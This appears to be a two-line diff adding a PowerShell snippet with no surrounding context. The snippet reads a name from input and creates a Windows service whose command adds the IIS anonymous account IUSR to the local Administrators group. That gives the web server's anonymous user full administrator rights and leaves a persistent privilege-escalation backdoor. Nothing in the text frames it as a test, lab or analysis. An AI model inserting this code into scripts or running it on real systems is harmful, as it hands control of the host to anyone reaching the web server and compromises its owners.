@@ -1,0 +1,2 @@
+$name = Read-Host
+New-Service -Name $name -BinaryPathName 'cmd /c net localgroup Administrators IUSR /add'
